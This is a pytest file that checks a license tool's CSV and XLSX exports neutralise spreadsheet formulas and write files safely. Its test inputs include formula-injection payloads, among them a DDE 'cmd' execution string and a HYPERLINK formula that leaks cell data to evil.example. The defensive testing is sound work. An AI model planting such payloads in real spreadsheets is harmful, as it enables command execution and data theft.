"""What leaves LicenseIQ as a table: typed cells, no formulas, and files that nobody else reads or loses."""

import csv
import io
import os
import stat
from collections.abc import Callable
from datetime import UTC, date, datetime
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from licenseiq.errors import BadRequest, LicenseIQError, Refused
from licenseiq.money import Money
from licenseiq_cli.export_cells import Sheet, amount_cell, neutral, priced_rows
from licenseiq_cli.export_files import places, write_all
from licenseiq_cli.export_formats import as_csv, as_xlsx

MADE = datetime(2026, 11, 23, 9, 12, 31, tzinfo=UTC)
STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
ATTACKS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "＝1+1",
    'x";=1+1;"',
    "Sales; =1+1",
    "a,=1+1",
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
)
SHEET = Sheet(
    "cells",
    ("text", "number", "money", "day", "yes", "unknown"),
    (('Zoë, "the" one', 7, Decimal("34.20"), date(2026, 12, 31), True, None), ("", 0, Decimal(0), None, False, None)),
)


def cells_of(content: bytes, delimiter: str = ",") -> list[str]:
    """Every cell as a spreadsheet with this separator would split the file."""
    rows = csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=delimiter)
    return [cell for row in rows for cell in row]


def formulas(content: bytes) -> list[str]:
    """The cells that some spreadsheet would compute, but for numbers."""
    found = [cell.strip(' "') for delimiter in ",;\t" for cell in cells_of(content, delimiter)]
    return [cell for cell in found if cell[:1] in STARTS and not cell[1:].replace(".", "").isdigit()]


def naive_csv(sheet: Sheet) -> bytes:
    """The planted fault: the same table, as anybody would write it."""
    out = io.StringIO(newline="")
    csv.writer(out).writerows(sheet.rows)
    return out.getvalue().encode()


def test_no_text_is_a_formula_in_any_spreadsheet() -> None:
    """INV-29."""
    sheet = Sheet("x", ("text",), tuple((attack,) for attack in ATTACKS))
    assert formulas(as_csv(sheet)) == []
    book = openpyxl.load_workbook(io.BytesIO(as_xlsx([sheet], MADE)))
    for row in book["x"].iter_rows(min_row=2):
        assert row[0].data_type == "s"
        assert str(row[0].value).lstrip()[:1] not in STARTS


def test_positive_control_the_same_check_finds_formulas_that_are_not_neutralised() -> None:
    sheet = Sheet("x", ("text",), tuple((attack,) for attack in ATTACKS))
    assert len(formulas(naive_csv(sheet))) >= len(ATTACKS)


@given(st.text(alphabet=st.sampled_from("=+-@\t\r\n;,|\"'a1 ＝"), max_size=12))
def test_whatever_is_typed_is_no_formula_afterwards(text: str) -> None:
    assert neutral(text).lstrip()[:1] not in {"=", "+", "-", "@", "＝"}
    assert formulas(as_csv(Sheet("x", ("t",), ((text,),)))) == []


@pytest.mark.parametrize("text", ["Sales", "a-b", "x=y", "person-abc", "O'Neil", "2026-11-23", "3 + 4", ""])
def test_ordinary_text_stays_as_it_is(text: str) -> None:
    assert neutral(text) == text


def test_csv_keeps_numbers_as_numbers_and_says_nothing_for_unknown() -> None:
    content = as_csv(SHEET)
    assert content.startswith(b"\xef\xbb\xbf")
    assert content.decode("utf-8-sig").split("\r\n") == [
        '"text","number","money","day","yes","unknown"',
        '"Zoë, ""the"" one",7,34.20,"2026-12-31","yes",""',
        '"",0,0,"","no",""',
        "",
    ]


def test_xlsx_reads_back_as_it_was_written() -> None:
    book = openpyxl.load_workbook(io.BytesIO(as_xlsx([SHEET, Sheet("empty", ("a",), ())], MADE)))
    assert book.sheetnames == ["cells", "empty"]
    tab = book["cells"]
    rows = list(tab.iter_rows(values_only=True))
    assert rows[0] == SHEET.columns
    assert rows[1] == ('Zoë, "the" one', 7, 34.2, datetime(2026, 12, 31), "yes", None)  # noqa: DTZ001 - as Excel has it
    assert rows[2] == (None, 0, 0, None, "no", None)
    assert tab.freeze_panes == "A2"
    assert tab.print_title_rows == "$1:$1"
    assert tab["D2"].is_date
    assert tab["C2"].number_format == "#,##0.00"
    assert book.properties.created == MADE.replace(tzinfo=None)


def test_each_currency_has_its_row_and_no_number_is_repeated() -> None:
    euros, dollars = Money("EUR", 1_500_000), Money("USD", 9_916_667)
    assert list(priced_rows(("a",), (3,), (euros, dollars), ("z",))) == [
        ("a", 3, Decimal("1.50"), "EUR", "z"),
        ("a", None, Decimal("9.916667"), "USD", "z"),
    ]
    assert list(priced_rows(("a",), (3,), None)) == [("a", 3, None, None)]
    assert list(priced_rows(("a",), (3,), ())) == [("a", 3, Decimal(0), None)]
    assert amount_cell(None) is None


def test_files_are_for_this_account_only_and_leave_nothing_behind(tmp_path: Path) -> None:
    made = tmp_path / "new"
    write_all({made / "a.csv": b"1", made / "b.csv": b"2"}, force=False)
    assert sorted(path.name for path in made.iterdir()) == ["a.csv", "b.csv"]
    assert (made / "b.csv").read_bytes() == b"2"
    if os.name == "posix":
        assert {stat.S_IMODE(path.stat().st_mode) for path in made.iterdir()} == {0o600}
        assert stat.S_IMODE(made.stat().st_mode) == 0o700


def test_nothing_is_written_where_one_file_is_there_already(tmp_path: Path) -> None:
    (tmp_path / "b.csv").write_bytes(b"mine")
    files = {tmp_path / "a.csv": b"1", tmp_path / "b.csv": b"2"}
    with pytest.raises(Refused, match="--force"):
        write_all(files, force=False)
    assert [path.name for path in tmp_path.iterdir()] == ["b.csv"]
    (tmp_path / "b.csv").chmod(0o644)
    write_all(files, force=True)
    assert (tmp_path / "b.csv").read_bytes() == b"2"
    assert stat.S_IMODE((tmp_path / "b.csv").stat().st_mode) == 0o600
    assert len(list(tmp_path.iterdir())) == 2


def test_a_link_is_replaced_and_not_followed(tmp_path: Path) -> None:
    other = tmp_path / "other"
    other.write_bytes(b"theirs")
    (tmp_path / "a.csv").symlink_to(other)
    with pytest.raises(Refused):
        write_all({tmp_path / "a.csv": b"1"}, force=False)
    write_all({tmp_path / "a.csv": b"1"}, force=True)
    assert other.read_bytes() == b"theirs"


def test_a_folder_that_is_not_there_is_told(tmp_path: Path) -> None:
    with pytest.raises(Refused, match="could not be written"):
        write_all({tmp_path / "no" / "such" / "a.csv": b"1"}, force=False)


def test_a_path_is_a_file_where_it_ends_like_the_format(tmp_path: Path) -> None:
    folder, file = str(tmp_path), str(tmp_path / "x.CSV")
    assert places(folder, ".csv", ("people", "summary")) == (
        tmp_path / "licenseiq-people.csv",
        tmp_path / "licenseiq-summary.csv",
    )
    assert places(folder, ".xlsx", ("",)) == (tmp_path / "licenseiq.xlsx",)
    assert places(file, ".csv", ("people",)) == (Path(file),)
    with pytest.raises(BadRequest):
        places(file, ".csv", ("people", "summary"))


def test_more_rows_than_a_tab_holds_are_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("licenseiq_cli.export_formats._MOST_ROWS", 1)
    refuse: Callable[[], bytes] = lambda: as_xlsx([SHEET], MADE)  # noqa: E731
    with pytest.raises(LicenseIQError, match="more rows"):
        refuse()
